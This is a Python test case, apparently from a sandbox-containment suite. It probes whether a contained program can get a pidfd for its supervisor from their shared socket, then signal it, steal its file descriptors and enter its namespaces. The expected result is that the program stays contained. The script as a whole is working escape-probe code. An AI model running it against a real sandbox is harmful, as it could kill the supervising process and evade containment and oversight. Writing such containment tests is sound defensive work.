# attack: gets a pidfd of its supervisor from their shared socket, then signals it and takes its descriptors and namespaces
# verdict: completed
# prints: still here
# runtime: runc (gVisor may lack this option, and it would expose only the program's own processes)
import ctypes
import fcntl
import os
import signal
import socket
import struct

SO_PEERPIDFD = 77
libc = ctypes.CDLL(None, use_errno=True)
found = []
try:
    answer = socket.socket(fileno=os.dup(3)).getsockopt(socket.SOL_SOCKET, SO_PEERPIDFD, 4)
    supervisor = struct.unpack("i", answer)[0]
except OSError:
    supervisor = -1
if supervisor >= 0:
    for number in (signal.SIGSTOP, signal.SIGTERM, signal.SIGKILL):
        try:
            signal.pidfd_send_signal(supervisor, number)
        except OSError:
            continue
        # The first process of a namespace ignores signals without a handler; any other process would end.
        if os.getppid() == 0:
            found.append(("signal", number))
    for descriptor in range(16):
        if libc.syscall(438, supervisor, descriptor, 0) >= 0:
            found.append(("descriptor", descriptor))
    for kind in (0x00020000, 0x10000000, 0x20000000, 0x40000000):
        if libc.setns(supervisor, kind) == 0:
            found.append(("setns", hex(kind)))
    # The kernel's requests, one for each kind of namespace.
    for request in range(1, 11):
        try:
            namespace = fcntl.ioctl(supervisor, 0xFF00 + request, 0)
        except OSError:
            continue
        if namespace >= 0 and libc.setns(namespace, 0) == 0:
            found.append(("namespace", request))
print(f"breached: {found}" if found else "still here")
